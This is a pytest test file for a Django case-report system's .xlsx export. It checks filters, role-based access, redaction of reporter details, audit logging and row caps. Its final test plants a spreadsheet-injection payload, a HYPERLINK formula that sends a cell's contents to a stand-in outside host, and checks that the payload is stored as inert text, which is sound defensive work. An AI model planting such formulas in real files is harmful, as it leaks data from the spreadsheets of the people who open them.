"""The case export: the list's reports and filters as an .xlsx, only what the user may see, no reporter
identity, receipt or message, the allegation's text only for those who decide; one audit event each."""

import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from gridwatch.accounts.roles import Role
from gridwatch.audit.models import AuditEvent
from gridwatch.cases import export_views, services
from gridwatch.cases.models import Report
from gridwatch.cases.tests.conftest import file_report
from gridwatch.conftest import make_user, zh

EXPORT = reverse("cases:case_export")
WHAT = "周末在农家乐接受宴请"


@pytest.fixture
def office(county):
    return make_user("office", role=Role.OFFICE, area=county)


def sheet(response):
    """The sheet's rows as lists of cell values: title, header, then one row per report."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == export_views.XLSX
    workbook = load_workbook(io.BytesIO(response.content))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def by_header(rows):
    header = rows[1]
    return [dict(zip(header, row, strict=True)) for row in rows[2:]]


def page_references(client, params):
    """The references the list shows, page after page."""
    references, page = [], 1
    while True:
        response = client.get(reverse("cases:case_list"), {**params, "page": page})
        references += [r.reference for r in response.context["rows"]]
        if not response.context["page"].has_next():
            return references
        page += 1


@pytest.mark.parametrize(
    "params",
    [{}, {"status": "open"}, {"circle": "family"}, {"urgent": "1"}, {"q": "赵"}, {"status": "closed"}],
)
def test_it_exports_the_reports_of_the_list_with_its_filters(
    as_user, county_officer, grid_a, cadre_a, params
):
    for i in range(30):
        report, _code = file_report(
            subject_cadre=cadre_a if i % 3 == 0 else None,
            subject_name="" if i % 3 == 0 else ("赵六" if i % 2 else "钱七"),
            grid=grid_a,
            circle="family" if i % 4 == 0 else "social",
        )
        Report.objects.filter(pk=report.pk).update(
            urgent=i % 5 == 0, status=("handling", "received", "transferred")[i % 3]
        )
    client = as_user(county_officer)
    rows = by_header(sheet(client.get(EXPORT, params)))
    # In the same order as the list, across its pages.
    assert [row[zh("Reference")] for row in rows] == page_references(client, params)
    if params:
        assert len(rows) < 30


def test_it_writes_the_columns_of_a_case(as_user, county_officer, township_officer_a, grid_a, cadre_a):
    report, _code = file_report(subject_cadre=cadre_a, grid=grid_a, channel="hotline", circle="family")
    verify_by = timezone.localdate() - datetime.timedelta(days=1)
    Report.objects.filter(pk=report.pk).update(
        status="handling",
        urgent=True,
        handler=township_officer_a,
        disposal="preliminary",
        verify_due=verify_by,
    )
    rows = by_header(sheet(as_user(county_officer).get(EXPORT)))
    assert len(rows) == 1
    row = rows[0]
    assert row[zh("Reference")] == report.reference
    assert row[zh("Received on")].date() == report.received_on
    assert row[zh("Channel")] == zh("Supervision phone")
    assert row[zh("Circle")] == zh("Family circle (家庭圈)")
    assert row[zh("Subject")] == "张伟" and row[zh("Unit or post")] == "县财政局"
    assert row[zh("Grid")] == "南场社区 南场社区第1网格"
    assert row[zh("Status")] == zh("Being handled") and row[zh("Urgent")] == zh("yes")
    assert row[zh("Handler")] == str(township_officer_a)
    assert row[zh("Disposal")] == zh("Preliminary verification (初步核实)")
    assert row[zh("Verify by")].date() == verify_by
    assert row[zh("Next time limit")].date() == verify_by and row[zh("Overdue")] == zh("yes")


def test_it_gives_the_allegation_only_to_those_who_decide(as_user, county_officer, office, report_a):
    decider = by_header(sheet(as_user(county_officer).get(EXPORT)))
    assert decider[0][zh("What happened")] == WHAT
    office_rows = sheet(as_user(office).get(EXPORT))
    assert zh("What happened") not in office_rows[1]
    assert WHAT not in str(office_rows)
    assert office_rows[2][0] == report_a[0].reference


def test_it_never_exports_the_reporter_the_receipt_or_the_messages(as_user, county_officer, cadre_a, grid_a):
    report, code = file_report(
        subject_cadre=cadre_a, grid=grid_a, reporter_name="陈小明", reporter_phone="13912345678"
    )
    services.report_message_send(actor=county_officer, report=report, body="请补充时间地点")
    services.report_message_from_reporter(report=report, body="上周六晚上八点")
    content = str(sheet(as_user(county_officer).get(EXPORT)))
    for secret in ("陈小明", "13912345678", code, "请补充时间地点", "上周六晚上八点"):
        assert secret not in content


def test_it_exports_only_the_jurisdiction_less_the_recused(
    as_user, township_officer_a, report_a, report_b, grid_a
):
    from gridwatch.people.models import DeclaredRelation, RelationKind

    other, _code = file_report(subject_name="赵六", grid=grid_a)
    DeclaredRelation.objects.create(
        user=township_officer_a, cadre=report_a[0].subject_cadre, kind=RelationKind.KIN
    )
    rows = sheet(as_user(township_officer_a).get(EXPORT))
    assert [row[0] for row in rows[2:]] == [other.reference]


def test_it_audits_each_export_once_with_its_filters_and_row_count(
    as_user, county_officer, report_a, report_b
):
    as_user(county_officer).get(EXPORT, {"status": "open", "circle": "social", "q": "张"})
    event = AuditEvent.objects.get(action="report.export")
    assert event.actor_id == county_officer.pk
    assert event.changes["rows"] == 1 and event.changes["capped"] is False
    assert event.changes["filters"] == {"status": "open", "circle": "social", "q": "张"}
    assert WHAT not in str(event.changes) and WHAT not in event.object_label


def test_it_caps_a_very_large_export_and_says_so(as_user, county_officer, grid_a, monkeypatch):
    monkeypatch.setattr(export_views, "MAX_ROWS", 3)
    for i in range(5):
        file_report(subject_name=f"某{i}", grid=grid_a)
    rows = sheet(as_user(county_officer).get(EXPORT))
    assert len(rows) == 2 + 3 + 1
    assert rows[-1][0] == zh(
        "Only the first %(n)s reports are in this file: narrow the filters to export the rest.", n=3
    )
    event = AuditEvent.objects.get(action="report.export")
    assert event.changes["rows"] == 3 and event.changes["capped"] is True


def test_it_answers_as_a_download_that_is_not_cached(as_user, county_officer, report_a):
    response = as_user(county_officer).get(EXPORT)
    assert response["Content-Disposition"].startswith("attachment;")
    assert ".xlsx" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize("persona", ["county_officer", "township_officer_a", "office"])
def test_it_lets_deciders_and_the_office_export(request, as_user, report_a, persona):
    assert as_user(request.getfixturevalue(persona)).get(EXPORT).status_code == 200


@pytest.mark.parametrize(
    "persona", ["grid_supervisor", "unit_liaison", "cadre_user", "system_admin", "audit_admin"]
)
def test_it_refuses_the_export_to_other_roles(request, as_user, report_a, persona):
    assert as_user(request.getfixturevalue(persona)).get(EXPORT).status_code == 403
    assert not AuditEvent.objects.filter(action="report.export").exists()


def test_it_refuses_the_export_to_a_commission_liaison(as_user, report_a, grid_a, township_a):
    from gridwatch.geography import services as geo

    liaison = make_user("liaison_leader")
    geo.liaison_create(actor=None, user=liaison, area=grid_a, townships=[township_a])
    assert as_user(liaison).get(EXPORT).status_code == 403


def test_it_sends_anonymous_visitors_to_the_sign_in_page(client, report_a):
    response = client.get(EXPORT)
    assert response.status_code == 302 and response["Location"].startswith(reverse("accounts:login"))


def test_it_answers_405_to_a_post(as_user, county_officer):
    assert as_user(county_officer).post(EXPORT).status_code == 405


def test_it_shows_the_export_link_with_the_filters_to_those_who_may_export(
    as_user, county_officer, grid_supervisor, report_a
):
    Report.objects.update(urgent=True)
    page = as_user(county_officer).get(reverse("cases:case_list"), {"status": "open", "urgent": "1"})
    assert f'href="{EXPORT}?status=open&amp;urgent=1"' in page.content.decode()
    assert EXPORT not in as_user(grid_supervisor).get(reverse("cases:case_list")).content.decode()


def test_it_exports_in_a_fixed_number_of_queries(
    as_user, county_officer, grid_a, cadre_a, django_assert_max_num_queries, django_assert_num_queries
):
    def fill(n):
        for i in range(n):
            report, _code = file_report(
                subject_cadre=cadre_a if i % 2 else None, subject_name=f"某{i}", grid=grid_a
            )
            Report.objects.filter(pk=report.pk).update(handler=county_officer)

    client = as_user(county_officer)
    fill(2)
    client.get(reverse("cases:case_list"))
    with django_assert_max_num_queries(25) as small:
        assert client.get(EXPORT).status_code == 200
    fill(30)
    with django_assert_num_queries(len(small.captured_queries)):
        rows = sheet(client.get(EXPORT))
    assert len(rows) == 2 + 32


def test_it_never_turns_what_a_resident_typed_into_a_formula(as_user, county_officer, grid_a):
    """Spreadsheet injection: a resident's "=HYPERLINK(…)" must reach the decider's file as text."""
    planted = '=HYPERLINK("http://example.invalid/?"&C3,"详情")'
    file_report(grid=grid_a, subject_name=planted, what=planted)
    response = as_user(county_officer).get(EXPORT)
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for row in workbook.active.iter_rows(min_row=3) for cell in row if cell.value == planted]
    assert len(cells) == 2
    assert all(cell.data_type == "s" for cell in cells)
